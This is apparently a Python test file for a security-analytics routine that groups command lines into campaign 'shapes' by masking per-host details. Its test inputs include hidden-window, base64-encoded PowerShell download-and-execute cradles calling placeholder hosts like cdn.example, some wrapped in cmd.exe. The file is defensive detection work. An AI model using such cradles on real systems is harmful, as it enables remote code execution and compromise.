"""The shape of a command line (analytics.command_shapes): per-host parts masked, what a campaign shares kept."""

from __future__ import annotations

import base64

from analytics.command_shapes import SHAPE_LIMIT, command_shape


def _encoded(script: str) -> str:
    return "powershell.exe -nop -w hidden -enc " + base64.b64encode(script.encode("utf-16le")).decode()


def test_an_encoded_cradles_per_host_url_path_is_masked_inside_the_decoded_script():
    one = command_shape(_encoded("IEX (iwr 'http://cdn.example/i/AbCdEfGh.png').Content"), "ws-0001")
    two = command_shape(_encoded("IEX (iwr 'http://cdn.example/i/QrStUvWx.png?u=ws-0002').Content"), "ws-0002")
    assert one == two == "powershell.exe -nop -w hidden -enc <enc: iex (iwr 'http://cdn.example/*.png').content>"


def test_the_server_the_extension_and_the_script_stay():
    lure = command_shape(_encoded("IEX (iwr 'http://cdn.example/i/a.png').Content"))
    assert lure != command_shape(_encoded("IEX (iwr 'http://intranet.example/i/a.png').Content"))
    assert lure != command_shape(_encoded("IEX (iwr 'http://cdn.example/i/a.ps1').Content"))
    assert lure != command_shape(_encoded("Start-Process (iwr 'http://cdn.example/i/a.png').Content"))


def test_profiles_host_names_guids_and_random_tokens_are_masked_windows_words_are_not():
    shape = command_shape(r"C:\Users\alice\AppData\x.exe /host WS-0042 /id {1B4E28BA-2FA1-11D2-883F-0016D3CCA427} "
                          r"/t k3j9x8q2 /h deadbeef01 /n 123456 C:\Windows\System32\x64\sha256.dll", "ws-0042.corp")
    assert shape == r"c:\users\*\appdata\x.exe /host * /id * /t * /h * /n * c:\windows\system32\x64\sha256.dll"
    assert command_shape(r"C:\Users\Public\x.exe") == r"c:\users\public\x.exe"
    assert command_shape("net use a: /y", host="a") == "net use a: /y"  # a one-letter host name masks no word
    assert command_shape("net use x:", host=".corp") == "net use x:"


def test_an_undecodable_payload_and_a_huge_line_are_bounded():
    assert command_shape("powershell -enc AAAAAAAAAAAAAAAAAAAAAAA!") .startswith("powershell -enc")
    assert len(command_shape("cmd /c echo " + "a " * 10_000)) <= SHAPE_LIMIT
    assert len(command_shape(_encoded("write-host " + "b " * 10_000))) <= SHAPE_LIMIT


def _cmd(script: str, line: str = "cmd.exe /c powershell -nop -w hidden -enc {}") -> str:
    return line.format(base64.b64encode(script.encode("utf-16le")).decode())


def test_a_cmd_line_running_an_encoded_cradle_shares_its_decoded_script_shape():
    """INGF #4: cmd's own line kept the base64 word, masked to ``*``: two servers' cradles were one shape."""
    one = command_shape(_cmd("IEX (iwr 'http://cdn.example/i/AbCdEfGh.png').Content"), "ws-0001")
    two = command_shape(_cmd("IEX (iwr 'http://cdn.example/i/QrStUvWx.png?u=ws-0002').Content"), "ws-0002")
    assert one == two == "cmd.exe /c powershell -nop -w hidden -enc <enc: iex (iwr 'http://cdn.example/*.png').content>"
    other = command_shape(_cmd("IEX (iwr 'http://intranet.example/i/a.png').Content"), "ws-0003")
    assert other != one


def test_comspec_start_and_nested_quotes_are_read_as_cmd_reads_them():
    script = "IEX (iwr 'http://cdn.example/i/a.png').Content"
    assert command_shape(_cmd(script, "%COMSPEC% /b /c start /b /min powershell -nop -enc {}")) == (
        "%comspec% /b /c start /b /min powershell -nop -enc <enc: iex (iwr 'http://cdn.example/*.png').content>")
    assert command_shape(_cmd(script, 'cmd /k ""powershell" -enc "{}""')) == (
        "cmd /k \"\"powershell\" -enc \"<enc: iex (iwr 'http://cdn.example/*.png').content>\"\"")
    # a cmd line that only echoes the switch runs no PowerShell: its word is masked as before
    assert command_shape(_cmd(script, "cmd /c echo powershell -enc {}")).startswith("cmd /c echo powershell -enc *")
